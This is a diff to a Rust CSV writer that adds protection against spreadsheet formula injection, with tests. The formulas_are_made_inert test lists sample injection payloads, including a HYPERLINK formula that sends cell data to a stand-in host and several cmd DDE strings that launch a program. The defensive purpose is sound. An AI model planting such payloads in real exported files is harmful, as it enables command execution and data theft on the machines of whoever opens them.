@@ -110,33 +110,101 @@ fn csv_line(out: &mut Vec<u8>, c: &StoredCall) {
         c.billable.to_string(),
         c.late.to_string(),
     ];
-    for (i, f) in fields.iter().enumerate() {
+    csv_row(out, &fields);
+}
+
+/// Writes one CSV line of `cells`, each as [`csv_cell`] writes it.
+pub(crate) fn csv_row<S: AsRef<str>>(out: &mut Vec<u8>, cells: &[S]) {
+    for (i, cell) in cells.iter().enumerate() {
         if i > 0 {
             out.push(b',');
         }
-        csv_field(out, f);
+        csv_cell(out, cell.as_ref());
     }
     out.push(b'\n');
 }
 
-/// Writes one CSV field, quoted when it holds a comma, quote or line break.
-pub(crate) fn csv_field(out: &mut Vec<u8>, f: &str) {
-    if f.contains([',', '"', '\n', '\r']) {
+/// Writes one CSV cell: every CSV callmeter writes goes through here.
+///
+/// Paths, users and user agents come from the metered API's callers, and
+/// the files are opened in spreadsheets, which run a cell that starts with
+/// `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a
+/// formula: `=HYPERLINK(…)` or `+cmd|…` in a user agent would run on the
+/// support desk's machine. Such a cell is made inert as OWASP advises: a
+/// single quote in front, and the cell quoted. A plain number (`-5`,
+/// `-0.25`) is left as it is: a spreadsheet reads it as the number it is.
+/// Any other cell is quoted when it holds a comma, quote or line break.
+pub(crate) fn csv_cell(out: &mut Vec<u8>, cell: &str) {
+    let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_number(cell);
+    if formula || cell.contains([',', '"', '\n', '\r']) {
         out.push(b'"');
-        out.extend_from_slice(f.replace('"', "\"\"").as_bytes());
+        if formula {
+            out.push(b'\'');
+        }
+        out.extend_from_slice(cell.replace('"', "\"\"").as_bytes());
         out.push(b'"');
     } else {
-        out.extend_from_slice(f.as_bytes());
+        out.extend_from_slice(cell.as_bytes());
     }
+}
+
+/// `-?[0-9]+(\.[0-9]+)?`: a number as callmeter writes one.
+fn is_plain_number(cell: &str) -> bool {
+    let digits = cell.strip_prefix('-').unwrap_or(cell);
+    let (int, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
+    [int, fraction].iter().all(|part| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit()))
 }
 
 #[cfg(test)]
 mod tests {
+    use super::*;
+
+    fn cell(s: &str) -> String {
+        let mut out = Vec::new();
+        csv_cell(&mut out, s);
+        String::from_utf8(out).unwrap()
+    }
+
     #[test]
     fn csv_quoting() {
+        assert_eq!(cell("a,\"b\""), "\"a,\"\"b\"\"\"");
+        assert_eq!(cell("plain"), "plain");
+        assert_eq!(cell("line\nbreak"), "\"line\nbreak\"");
+        assert_eq!(cell(""), "");
+    }
+
+    #[test]
+    fn formulas_are_made_inert() {
+        for (given, written) in [
+            (
+                "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
+                "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"",
+            ),
+            ("+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\""),
+            ("-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\""),
+            ("@SUM(1+1)*cmd|' /C calc'!A0", "\"'@SUM(1+1)*cmd|' /C calc'!A0\""),
+            ("\t=1+1", "\"'\t=1+1\""),
+            ("\r=1+1", "\"'\r=1+1\""),
+            ("=", "\"'=\""),
+            ("-", "\"'-\""),
+            ("-1.", "\"'-1.\""),
+            ("--5", "\"'--5\""),
+        ] {
+            assert_eq!(cell(given), written, "{given:?}");
+        }
+    }
+
+    #[test]
+    fn numbers_and_ordinary_text_stay_as_they_are() {
+        for same in ["-5", "-0.25", "0", "12.5", "/a=b/+c@d", "a-b", "curl/8.5.0", "2026-11-27T10:00:00Z", "x=1"] {
+            assert_eq!(cell(same), same);
+        }
+    }
+
+    #[test]
+    fn a_row_is_cells_and_a_line_end() {
         let mut out = Vec::new();
-        super::csv_field(&mut out, "a,\"b\"");
-        super::csv_field(&mut out, "plain");
-        assert_eq!(String::from_utf8(out).unwrap(), "\"a,\"\"b\"\"\"plain");
+        csv_row(&mut out, &["a", "=1", "-3"]);
+        assert_eq!(String::from_utf8(out).unwrap(), "a,\"'=1\",-3\n");
     }
 }
